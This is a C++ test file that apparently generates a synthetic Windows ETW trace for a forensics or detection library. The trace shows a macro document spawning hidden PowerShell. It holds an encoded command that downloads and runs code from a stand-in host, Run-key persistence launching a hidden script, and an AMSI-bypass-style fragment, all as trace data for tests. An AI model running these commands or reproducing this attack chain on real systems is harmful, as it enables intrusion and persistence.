// examples/traces/workstation.etl, which the documentation and the tests of lib/ use, is what the
// writer makes: a minute of an invented workstation, on which a document starts PowerShell.
// NUTHATCH_WRITE_SEEDS=1 writes it.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

#include "etw/etl_writer.h"
#include "etw/known_providers.h"

namespace nuthatch {
namespace {

constexpr uint32_t kExplorer = 4120;
constexpr uint32_t kWord = 5204;
constexpr uint32_t kPowerShell = 6012;

class Payload {
 public:
  Payload& U8(size_t value) { return Put(value, 1); }
  Payload& U16(size_t value) { return Put(value, 2); }
  Payload& U32(size_t value) { return Put(value, 4); }
  Payload& U64(size_t value) { return Put(value, 8); }
  Payload& Ansi(std::string_view text) {
    sink_.Append(text);
    return U8(0);
  }
  Payload& Wide(std::string_view text, size_t padded = 0) {
    for (const char c : text) U16(static_cast<unsigned char>(c));
    for (size_t i = text.size() + 1; i < padded; ++i) U16(0);
    return U16(0);
  }
  Payload& Raw(std::initializer_list<unsigned> bytes) {
    for (const unsigned byte : bytes) U8(byte);
    return *this;
  }
  // TOKEN_USER, and S-1-5-21-11-22-33-1001.
  Payload& Token() {
    U64(1).U64(0).Raw({1, 5, 0, 0, 0, 0, 0, 5});
    for (const size_t part : {21, 11, 22, 33, 1001}) U32(part);
    return *this;
  }
  const Bytes& bytes() const { return sink_.bytes(); }

 private:
  Payload& Put(uint64_t value, size_t size) {
    sink_.Put(value, size);
    return *this;
  }
  ByteSink sink_;
};

class Story {
 public:
  // Milliseconds after the record before.
  Story& After(uint64_t milliseconds) {
    time_ += milliseconds * 10'000;
    return *this;
  }

  Story& Kernel(uint8_t group, uint8_t type, uint16_t version, uint32_t pid,
                const Payload& payload) {
    records_.push_back(KernelRecord{.group = group,
                                    .type = type,
                                    .version = version,
                                    .pid = pid,
                                    .tid = pid + 4,
                                    .time = time_,
                                    .payload = payload.bytes()}
                           .Write());
    return *this;
  }

  Story& Event(const Guid& provider, uint16_t id, uint8_t version, const Payload& payload) {
    records_.push_back(EventRecord{.pid = kPowerShell,
                                   .tid = kPowerShell + 4,
                                   .time = time_,
                                   .provider = provider,
                                   .id = id,
                                   .version = version,
                                   .payload = payload.bytes()}
                           .Write());
    return *this;
  }

  Story& Volume(std::string_view nt_path, std::string_view dos_path) {
    records_.push_back(ClassicRecord{.type = 0x23,
                                     .time = time_,
                                     .guid = ParseGuid("9b79ee91-b5fd-41c0-a243-4248e266e9d0"),
                                     .payload = Payload().Wide(nt_path).Wide(dos_path).bytes()}
                           .Write());
    return *this;
  }

  Story& Process(uint8_t type, uint32_t pid, uint32_t parent, std::string_view image,
                 std::string_view command_line) {
    const Payload payload = Payload()
                                .U64(0xFFFFB08000000000 + pid)
                                .U32(pid)
                                .U32(parent)
                                .U32(1)
                                .U32(0)
                                .U64(0)
                                .U32(0)
                                .Token()
                                .Ansi(image)
                                .Wide(command_line)
                                .Wide("")
                                .Wide("");
    return Kernel(3, type, 4, type == 1 ? parent : pid, payload);
  }

  Story& Image(uint8_t type, uint32_t pid, uint64_t base, std::string_view path) {
    const Payload payload = Payload()
                                .U64(base)
                                .U64(0x80000)
                                .U32(pid)
                                .U32(0)
                                .U32(0)
                                .U32(0)
                                .U64(base)
                                .U32(0)
                                .U32(0)
                                .U32(0)
                                .U32(0)
                                .Wide("\\Device\\HarddiskVolume3" + std::string(path));
    return Kernel(0x14, type, 3, pid, payload);
  }

  const std::vector<Bytes>& records() const { return records_; }

 private:
  uint64_t time_ = TraceFacts().origin + 5'000'000;
  std::vector<Bytes> records_;
};

std::vector<Bytes> Machine() {
  return Story()
      .Kernel(0x0B, 0x0A, 2, 4,
              Payload()
                  .U32(2400)
                  .U32(4)
                  .U32(16384)
                  .U32(4096)
                  .U32(65536)
                  .Wide("WS-0117", 256)
                  .Wide("corp.example", 134)
                  .U64(0))
      .Volume("\\Device\\HarddiskVolume3\\", "C:\\")
      .Process(3, kExplorer, 4100, "explorer.exe", "C:\\Windows\\Explorer.EXE")
      .Image(3, kExplorer, 0x7FF600000000, "\\Windows\\explorer.exe")
      .Process(3, kWord, kExplorer, "WINWORD.EXE",
               "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
               "\"C:\\Users\\maria.keller\\Downloads\\invoice.docm\"")
      .Image(3, kWord, 0x7FF610000000,
             "\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
      .records();
}

// The encoded command downloads and runs http://files.example/a.
std::vector<Bytes> Attack() {
  constexpr Guid kPowerShellProvider = ParseGuid("a0c1853b-5c40-4b15-8766-3cf1c58f985a");
  constexpr Guid kDnsClient = ParseGuid("1c95126e-7eea-49a9-a3fe-a378b03ddb4d");
  constexpr Guid kRegistry = ParseGuid("70eb4f03-c1de-4f73-a051-33d13d5413bd");
  constexpr Guid kAmsi = ParseGuid("2a576b87-09a7-520e-c21a-4942f0271d67");
  constexpr uint64_t kKey = 0xFFFFE00000001234;
  constexpr std::string_view kData = "powershell.exe -w hidden -f C:\\Users\\Public\\update.ps1";
  Payload set;
  set.U64(kKey).U32(0).U32(1).U32(2 * (kData.size() + 1)).Wide("").Wide("Update");
  set.U16(2 * (kData.size() + 1)).Wide(kData).U32(0).U32(0).U16(0);
  // The text is scanned without its NUL; its hash is invented.
  constexpr std::string_view kScanned = "[Ref].Assembly.GetTypes()";
  Payload scan;
  scan.U64(0).U8(1).U32(1).Wide("PowerShell_powershell.exe_10.0.19041.1").Wide("");
  scan.U32(2 * kScanned.size()).U32(2 * kScanned.size());
  for (const char c : kScanned) scan.U16(static_cast<unsigned char>(c));
  for (size_t i = 0; i < 32; ++i) scan.U8(i);
  scan.U32(0);
  return Story()
      .After(12'000)
      .Process(
          1, kPowerShell, kWord, "powershell.exe",
          "powershell.exe -NoP -W Hidden -enc "
          "SQBFAFgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAu"
          "AEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwBmAGkAbABlAHMALgBlAHgA"
          "YQBtAHAAbABlAC8AYQAnACkAKQA=")
      .After(2)
      .Image(10, kPowerShell, 0x7FF620000000,
             "\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
      .After(900)
      .Event(kDnsClient, 3008, 0,
             Payload().Wide("files.example").U32(1).U64(0x6008).U32(0).Wide("::ffff:203.0.113.7;"))
      .After(30)
      .Kernel(6, 0x0C, 2, kPowerShell,
              Payload()
                  .U32(kPowerShell)
                  .U32(0)
                  .Raw({203, 0, 113, 7, 10, 20, 0, 17, 0, 80, 0xC3, 0x51})
                  .U16(1460)
                  .U16(1)
                  .U16(0)
                  .U16(1)
                  .U32(65535)
                  .U16(8)
                  .U16(8)
                  .U32(0)
                  .U64(0))
      .After(150)
      .Event(kPowerShellProvider, 4104, 1,
             Payload()
                 .U32(1)
                 .U32(1)
                 .Wide("$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Length])%256};$D|%{$_-bxor$S[1]}")
                 .Wide("6f0e3b52-6f0a-4a9e-8a39-0c1f5a1b2c3d")
                 .Wide(""))
      .After(400)
      .Event(kRegistry, 1, 0,
             Payload().U64(0).U64(kKey).U32(0).U32(2).Wide("").Wide(
                 "\\REGISTRY\\USER\\S-1-5-21-11-22-33-1001\\Software\\Microsoft\\Windows\\"
                 "CurrentVersion\\Run"))
      .After(1)
      .Event(kRegistry, 5, 0, set)
      .After(20)
      .Event(kAmsi, 1101, 0, scan)
      .After(30'000)
      .Process(2, kPowerShell, kWord, "powershell.exe", "")
      .records();
}

TEST(ExampleTrace, IsWhatTheWriterMakes) {
  EtlWriter writer({.session = "Example", .file = "C:\\workstation.etl"});
  writer.Add({.records = Machine()});
  writer.Add({.cpu = 1, .records = Attack()});
  const std::filesystem::path path = "examples/traces/workstation.etl";
  if (std::getenv("NUTHATCH_WRITE_SEEDS") != nullptr) {
    std::filesystem::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary)
        .write(reinterpret_cast<const char*>(writer.bytes().data()),
               static_cast<std::streamsize>(writer.bytes().size()));
  }
  std::ifstream file(path, std::ios::binary);
  const Bytes stored(std::istreambuf_iterator<char>(file), {});
  EXPECT_EQ(stored, writer.bytes()) << path << ": NUTHATCH_WRITE_SEEDS=1 writes it anew";
}

}  // namespace
}  // namespace nuthatch
